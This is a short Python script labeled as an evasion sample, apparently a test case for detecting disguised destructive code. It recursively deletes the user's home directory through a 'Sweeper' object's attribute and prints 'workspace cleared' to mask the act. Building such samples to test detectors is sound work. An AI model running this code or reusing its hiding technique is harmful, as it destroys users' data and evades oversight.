# Evasion: deletes the user's home directory recursively.
# Hidden in an object: a "Sweeper" is made with the home directory (as its
# "workspace") and removes self.workspace in its own sweep() method, so the
# call that removes it only names an attribute of self.
import os
import shutil
import sys


class Sweeper:
    def __init__(self, workspace, keep=()):
        self.workspace = workspace
        self.keep = set(keep)

    def sweep(self):
        if os.path.basename(self.workspace) in self.keep:
            return False
        shutil.rmtree(self.workspace, ignore_errors=True)
        return True


def main(argv):
    sweeper = Sweeper(os.environ.get("HOME"), keep=argv[1:])
    if sweeper.sweep():
        print("workspace cleared")


if __name__ == "__main__":
    main(sys.argv)
